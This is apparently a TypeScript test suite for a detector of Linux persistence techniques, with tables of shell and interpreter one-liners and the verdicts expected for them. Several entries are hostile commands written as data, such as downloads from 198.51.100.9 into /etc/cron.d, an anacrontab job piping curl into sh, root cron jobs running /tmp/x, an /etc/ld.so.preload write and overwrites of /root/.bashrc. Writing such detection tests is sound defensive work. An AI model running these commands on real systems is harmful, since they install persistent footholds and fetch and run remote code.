import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { persistenceAnalyzers } from '#shared/analyzers/persistence/analyzers.ts';
import { unpacked } from '#shared/analyzers/persistence/archives.ts';
import { downloads } from '#shared/analyzers/persistence/downloads.ts';
import { programWrites } from '#shared/analyzers/persistence/program-writes.ts';
import { readOptions } from '#shared/analyzers/persistence/short-options.ts';
import { launch, split } from '../miner/fixture.ts';
import { decideAll, file, holdToContract, shell, told } from '../optimization/fixture.ts';

const ANALYZERS = persistenceAnalyzers({ programs: () => ['xmrig', 'kinsing'] }).filter(
  ({ id }) => id !== 'script_started',
);

type Table = readonly (readonly [string, string])[];

/** Each line as `sh -c` gets it, and as a record gives it that has lost the quotes of its words. */
function holds(name: string, table: Table): void {
  test(name, () => {
    for (const [line, expected] of table) {
      assert.equal(told(ANALYZERS, shell(line)), expected, line);
      assert.equal(told(ANALYZERS, launch(['sh', '-c', ...line.split(' ')], { exact: false })), expected, line);
    }
  });
}

const CRON = 'persistence_file/cron strong';
const HARMLESS = 'persistence_file/cron note';
const UNIT = 'persistence_file/unit strong';

holds('reads the file of a download out of clustered and long options', [
  ['wget -qO/etc/cron.d/x http://198.51.100.9/x', CRON],
  ['wget -qO /etc/cron.d/x https://example.com/x', CRON],
  ['wget --output-document=/etc/cron.d/x https://example.com/x', CRON],
  ['curl -sSo/etc/cron.d/x http://198.51.100.9/x', CRON],
  ['curl -fsSLo /etc/cron.d/x https://example.com/x', CRON],
  ['curl --output /etc/systemd/system/x.service https://example.com/x', UNIT],
  ['curl -s https://example.com/a -o /tmp/a https://example.com/b -o /etc/cron.d/b', CRON],
  ['wget -q -O- https://example.com/x', '-'],
  ['curl -so- https://example.com/x', '-'],
  ['wget -o /etc/cron.d/log -O /tmp/x https://example.com/x', '-'],
  ['curl -o /srv/cron.d/x https://example.com/x', '-'],
  ['curl -T /etc/cron.d/x https://example.com/x', '-'],
  ['curl -F file=@/etc/crontab https://example.com/x', '-'],
  ['curl -H X:/etc/cron.d/x https://example.com/x', '-'],
  ['wget --spider -P /etc/cron.d https://example.com/x', '-'],
]);

holds('follows downloads and archives into folders', [
  ['cd /etc/cron.d && wget https://example.com/x', CRON],
  ['cd /etc/cron.d; curl -sO https://example.com/x', CRON],
  ['cd /etc; wget -O cron.d/x https://example.com/x', CRON],
  ['wget -qP/etc/cron.d https://example.com/x', CRON],
  ['wget --directory-prefix=/etc/cron.d https://example.com/x', CRON],
  ['curl --output-dir /etc/cron.d -O https://example.com/x', CRON],
  ['curl --output-dir=/etc/cron.d -o y https://example.com/x', CRON],
  ['aria2c -d /etc/cron.d -o x https://example.com/x', CRON],
  ['tar -C /etc/cron.d -xf a.tar', CRON],
  ['tar xzf /tmp/a.tgz -C /etc/cron.d', CRON],
  ['tar xzfC /tmp/a.tgz /etc/cron.d', CRON],
  ['tar -xzf a.tgz --directory=/etc/systemd/system', UNIT],
  ['tar -xzf a.tgz -C / etc/cron.d/x', CRON],
  ['curl -s https://example.com/a.tgz | tar -xz -C /etc/cron.d', CRON],
  ['cd /etc/cron.d && tar xf /tmp/a.tar', CRON],
  ['unzip -o a.zip -d /etc/cron.d', CRON],
  ['unzip -qo a.zip x.service -d/etc/systemd/system', UNIT],
  ['7z x a.7z -o/etc/cron.d', CRON],
  ['cpio -id -D /etc/cron.d', CRON],
  ['cd /tmp && wget https://example.com/etc/cron.d/x', '-'],
  ['cd /etc/cron.d && curl https://example.com/x', '-'],
  ['cd /etc/cron.d && ls', '-'],
  ['curl --output-dir /etc/cron.d https://example.com/x', '-'],
  ['wget -P /srv/etc/cron.daily-reports https://example.com/x', '-'],
  ['tar -tf a.tar -C /etc/cron.d', '-'],
  ['tar -czf /srv/backup.tgz /etc/cron.d', '-'],
  ['tar -C /etc/cron.d -cf a.tar .', '-'],
  ['tar -xOf a.tar etc/cron.d/x -C /etc/cron.d', '-'],
  ['tar -xf a.tar -C /opt/app', '-'],
  ['unzip -l a.zip -d /etc/cron.d', '-'],
  ['7z l a.7z -o/etc/cron.d', '-'],
  ['cpio -o -F /srv/cron.d.cpio', '-'],
]);

test('names what a folder gets by where it came from, and no file that it does not see', () => {
  const [verdict] = decideAll(ANALYZERS, shell('tar -xzf /tmp/.a.tgz -C /etc/cron.d'));
  assert.deepEqual(verdict?.artifacts, ['path:/tmp/.a.tgz']);
  const [fetched] = decideAll(ANALYZERS, shell('cd /etc/cron.d && wget http://198.51.100.9/x'));
  assert.deepEqual(fetched?.artifacts, ['path:/etc/cron.d/x', 'url:http://198.51.100.9/x']);
});

holds('spells out braces and the variables of loops', [
  ['cp /tmp/x /etc/cron.{d,daily}/x', CRON],
  ['cp /tmp/x /etc/{cron.hourly,cron.weekly}/x', CRON],
  ["echo '* * * * * root /tmp/x' | tee /etc/cron.{d,x}/x", CRON],
  ["for f in /etc/cron.d/a /etc/cron.d/b; do echo '* * * * * root /tmp/x' > $f; done", CRON],
  ['for f in "/etc/cron.d/a"; do echo "* * * * * root /tmp/x" > "$f"; done', CRON],
  [`for f in /etc/cron.{d,x}/a; do echo "* * * * * root /tmp/x" > \${f}; done`, CRON],
  ['for d in hourly daily; do cp /tmp/x /etc/cron.$d/x; done', CRON],
  ['for d in $(echo /etc/cron.hourly /etc/cron.daily); do cp /tmp/x $d/x; done', CRON],
  ["for f in /etc/cron.d/a; do echo '0 3 * * * root /usr/bin/certbot renew' > $f; done", HARMLESS],
  ['cp /etc/cron.{d,daily}/x /srv/backup/', '-'],
  ['cat /etc/cron.{d,daily}/x', '-'],
  ['for f in /etc/cron.d/*; do cat $f; done', '-'],
  ['for f in /etc/cron.d/a; do cat "$f" > /srv/copy; done', '-'],
  ['for f in a b; do echo /etc/cron.d > /srv/$f; done', '-'],
]);

test('names each file of a loop', () => {
  const paths = decideAll(ANALYZERS, shell('for f in a b; do cp /tmp/x /etc/cron.d/$f; done')).flatMap(
    ({ artifacts }) => artifacts,
  );
  for (const path of ['path:/etc/cron.d/a', 'path:/etc/cron.d/b'] as const) assert.ok(paths.includes(path), path);
});

/** Program texts of one line, by the option that takes them. */
const PROGRAMS: readonly (readonly [string, string, string, string])[] = [
  ['python3', '-c', "open('/etc/cron.d/x','w').write('* * * * * root /tmp/x\\n')", CRON],
  ['python', '-c', 'f=open("/etc/cron.d/x","a"); f.write("* * * * * root /tmp/x")', CRON],
  ['python3', '-c', "with open('/etc/cron.d/x', mode='w') as f: print('* * * * * root /tmp/x', file=f)", CRON],
  ['python3', '-c', "p='/etc/cron.d/x'; open(p,'w').write('* * * * * root /tmp/x')", CRON],
  ['python3', '-c', "from pathlib import Path; Path('/etc/cron.d/x').write_text('* * * * * root /tmp/x')", CRON],
  ['python3', '-c', "import urllib.request as u; u.urlretrieve('http://198.51.100.9/x','/etc/cron.d/x')", CRON],
  ['python3', '-c', "import os; os.replace('/tmp/x', '/etc/cron.d/x')", CRON],
  [
    'python3',
    '-c',
    "open('/etc/ld.so.preload','w').write('/usr/local/lib/libx.so')",
    'persistence_file/preload strong',
  ],
  ['perl', '-e', 'open(F,">/etc/cron.d/x"); print F "* * * * * root /tmp/x\\n"', CRON],
  ['perl', '-e', 'open F, ">> /etc/crontab"; print F "* * * * * root /tmp/x\\n"', CRON],
  ['perl', '-e', 'open(my $f, ">>", "/etc/crontab"); print $f "* * * * * root /tmp/x\\n"', CRON],
  ['perl', '-e', 'open(my $f, ">:utf8", "/etc/crontab"); print $f qq{* * * * * root /tmp/x\\n}', CRON],
  ['ruby', '-e', 'File.write("/etc/cron.d/x", "* * * * * root /tmp/x\\n")', CRON],
  ['ruby', '-e', 'File.open("/etc/cron.d/x", "w") { |f| f.puts "* * * * * root /tmp/x" }', CRON],
  ['php', '-r', 'file_put_contents("/etc/cron.d/x", "* * * * * root /tmp/x\\n");', CRON],
  ['node', '-e', 'require("fs").writeFileSync("/etc/cron.d/x", "* * * * * root /tmp/x")', CRON],
  ['python3', '-c', "open('/etc/cron.d/certbot','w').write('0 3 * * * root /usr/bin/certbot renew\\n')", HARMLESS],
  ['python3', '-c', "print(open('/etc/cron.d/x').read())", '-'],
  ['python3', '-c', "print(open('/etc/crontab', 'rb').read())", '-'],
  ['python3', '-c', "print('/srv/a'.replace('/srv', '/etc/cron.d/x'))", '-'],
  ['python3', '-c', "open('/srv/notes','w').write('see /etc/cron.d/x')", '-'],
  ['perl', '-e', 'open(F, "</etc/cron.d/x"); print <F>', '-'],
  ['perl', '-ne', 'print if /root/', '-'],
  ['ruby', '-e', 'puts File.read("/etc/cron.d/x")', '-'],
  ['node', '-e', 'console.log(require("fs").readFileSync("/etc/crontab", "utf8"))', '-'],
];

for (const [program, option, text, expected] of PROGRAMS) {
  test(`${expected}: ${program} ${option} ${text}`, () => {
    assert.equal(told(ANALYZERS, launch([program, option, text])), expected);
    assert.equal(told(ANALYZERS, launch([program, option, ...text.split(' ')], { exact: false })), expected);
  });
}

test('reads a program that an interpreter is fed, and none that only names one', () => {
  const text = "open('/etc/cron.d/x','w').write('* * * * * root /tmp/x')";
  assert.equal(told(ANALYZERS, shell(`echo "${text}" | python3`)), CRON);
  assert.equal(told(ANALYZERS, shell(`python3 <<EOF\n${text}\nEOF`)), CRON);
  assert.equal(told(ANALYZERS, launch(['grep', '-r', text, '/srv'])), '-');
});

holds('judges a crontab by the text of its process substitution or of its file', [
  ["crontab <(echo '* * * * * /tmp/x')", 'persistence_command strong'],
  ["crontab -u www-data <(echo '* * * * * /tmp/x')", 'persistence_command strong'],
  ["crontab <(crontab -l; echo '* * * * * /tmp/x')", 'persistence_command strong'],
  ["echo '* * * * * /tmp/x' > /srv/c; crontab /srv/c", 'persistence_command strong'],
  ["crontab <(echo '0 3 * * * /usr/bin/certbot renew')", 'persistence_command note'],
  ["echo '0 4 * * * /usr/bin/backup' > /srv/c; crontab /srv/c", 'persistence_command note'],
  ['crontab <(curl -s https://example.com/c)', 'persistence_command weak'],
  ['crontab -u root /srv/c', 'persistence_command weak'],
  ["diff <(echo '* * * * * /tmp/x') <(crontab -l)", '-'],
]);

holds('reads the jobs of anacrontab by its own columns', [
  ["echo '1 5 job /tmp/x' >> /etc/anacrontab", CRON],
  ["echo '7 25 weekly-job /dev/shm/x' | tee -a /etc/anacrontab", CRON],
  ["echo '@monthly 5 job curl -s http://198.51.100.9/a | sh' >> /etc/anacrontab", CRON],
  ["echo '1 5 cron.daily nice run-parts /etc/cron.daily' >> /etc/anacrontab", HARMLESS],
  ["echo '1 5 job' >> /etc/anacrontab", HARMLESS],
  ["echo 'START_HOURS_RANGE=3-22' >> /etc/anacrontab", HARMLESS],
  ['cat /etc/anacrontab', '-'],
]);

test("tells the schedulers' own books from what somebody else puts there", () => {
  const table: readonly (readonly [string, string, string])[] = [
    ['/var/spool/anacron/cron.daily', '/usr/sbin/anacron', '-'],
    ['/var/spool/anacron/cron.daily', '/tmp/anacron', CRON],
    ['/var/spool/anacron/cron.daily', '/usr/bin/touch', HARMLESS],
    ['/host/var/spool/anacron/cron.daily', '/tmp/x', CRON],
    ['/var/spool/cron/atspool/a00001', '/usr/sbin/atd', 'persistence_file/at note'],
    ['/var/spool/cron/atspool/a00001', '/tmp/x', 'persistence_file/at strong'],
    ['/var/spool/at/spool/a00001', '/usr/sbin/atd', 'persistence_file/at note'],
    ['/var/spool/cron/atjobs/a00001', '/usr/bin/at', 'persistence_file/at weak'],
    ['/var/spool/cron/atjobs/a00001', '/tmp/x', 'persistence_file/at strong'],
    ['/var/spool/cron/atspool', '/usr/bin/dpkg', '-'],
    ['/var/spool/cron/atjobs', '/usr/bin/dpkg', '-'],
  ];
  for (const [path, executable, expected] of table)
    assert.equal(told(ANALYZERS, file(path, { executable }, 'create')), expected, `${executable} ${path}`);
});

test('reads options as getopt does', () => {
  const read = (line: string): string =>
    readOptions(split(line), { letters: 'oP', names: new Set(['--out']) })
      .map(({ name, value }) => `${name}=${value ?? ''}`)
      .join(' ');
  assert.equal(read('-qo/a b'), 'q= o=/a =b');
  assert.equal(read('-qo /a b'), 'q= o=/a =b');
  assert.equal(read('--out a --out=b --flag c'), '--out=a --out=b --flag= =c');
  assert.equal(read('-- -o a'), '=-o =a');
  assert.equal(read('- -q -o'), '=- q= o=');
});

test('never throws on texts and words, and bounds what it finds', () => {
  const piece = fc.constantFrom(
    ...['open', 'write', 'Path', 'replace', 'os', 'q', 'qq', 'File', '(', ')', '{', '[', ',', ';', '.', '=', '+', '$f'],
    ...[
      "'/etc/cron.d/x'",
      '"w"',
      '">>"',
      "'",
      '"""',
      '\\',
      '\n',
      '-xf',
      'xzfC',
      '-C',
      '-O',
      '-P/etc/cron.d',
      '--',
      '-',
    ],
    ...['https://example.com/x', '--output-dir', 'x', '-d', '\0', 'é'],
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
      assert.ok(programWrites(pieces.join('')).length <= 32);
      assert.ok(programWrites(pieces.join(' ')).length <= 32);
      for (const name of ['curl', 'wget', 'aria2c']) assert.ok(downloads(name, [name, ...pieces]).length <= 32);
      for (const name of ['tar', 'unzip', '7z', 'cpio']) assert.ok(unpacked(name, [name, ...pieces]).length <= 32);
    }),
  );
});

test('bounds hostile lengths', () => {
  const many = 200_000;
  const heads = Array.from({ length: 16 }, (_, at) => `for v${at} in ${'a b '.repeat(40)}; do `).join('');
  const path = Array.from({ length: 16 }, (_, at) => `$v${at}`).join('');
  for (const event of [
    launch(['wget', `-${'q'.repeat(many)}`, '-P', '/etc/cron.d', 'https://example.com/x']),
    launch(['wget', '-P', '/etc/cron.d', 'https://example.com/x', '--', ...Array<string>(many).fill('a')]),
    launch(['tar', '-C', '/etc/cron.d', '-xf', 'a', ...Array<string>(many).fill('a')]),
    shell(`${heads}cp /tmp/x /etc/cron.d/${path}`),
    shell(`cp /tmp/x /etc/cron.d/${'{a,b}'.repeat(400)}`),
    launch(['python3', '-c', `${'open('.repeat(9000)}'/etc/cron.d/x'`]),
    shell(`crontab <(echo '* * * * * /tmp/x'); ${'crontab /dev/fd/63; '.repeat(200)}`),
  ])
    assert.ok(decideAll(ANALYZERS, event).length <= 64);
});

test('answers no command line without a needle', () => {
  const words = `cd wget curl -qO -P -sSo/etc/cron.d/x --output-dir tar unzip -C -d -xf xzf for f in do done $f ; && ( )
    cron.d/x /etc/{cron.d,cron.hourly}/x /etc /etc/cron.d https://example.com/x crontab <(echo /etc/anacrontab
    '* * * * * root /tmp/x' > | python3 perl -c -e open('/etc/cron.d/x','w').write('@daily') /var/spool/anacron/a
    /var/spool/cron/atspool/a cp /tmp/x`
    .split(/\s+/)
    .concat('cp /tmp/x /etc/cron.d/', '&& wget -P /etc/cron.d https://example.com/x', 'for f in /etc/cron.d/a; do');
  const answered = holdToContract(ANALYZERS, words, ['bash', 'sshd']);
  assert.ok(answered > 100, `${answered} answers`);
});

holds('takes a start-up file that is kept elsewhere, and one that goes to another home, for what they are', [
  ['cp ~/.bashrc /srv/backup/', '-'],
  ['cp -a /root/.bashrc /home/u/.profile /srv/backup/', '-'],
  ['cp /home/u/.bashrc /opt/old/.bashrc', '-'],
  ['cp /root/.ssh/authorized_keys /srv/backup/.ssh/authorized_keys', '-'],
  ['rsync -a /root/.zshrc /data/', '-'],
  ['cp /etc/crontab /srv/backup/', '-'],
  ['cp /etc/cron.d/x /srv/backup/x', '-'],
  ['cp /etc/rc.local /mnt/backup/rc.local', '-'],
  ['cp ~/.bashrc ~/.bashrc.bak', '-'],
  ['cp /etc/skel/.bashrc /home/u/', 'persistence_file/profile weak'],
  ['cp ~/.bashrc /home/other/', 'persistence_file/profile weak'],
  ['cp /root/.x/rc /srv/app/.bashrc', 'persistence_file/profile strong'],
  ['cp /tmp/.bashrc /root/', 'persistence_file/profile strong'],
  ['cp /tmp/x /root/.bashrc', 'persistence_file/profile strong'],
  ['cp /root/.x/.bashrc /root/.bashrc', 'persistence_file/profile strong'],
]);
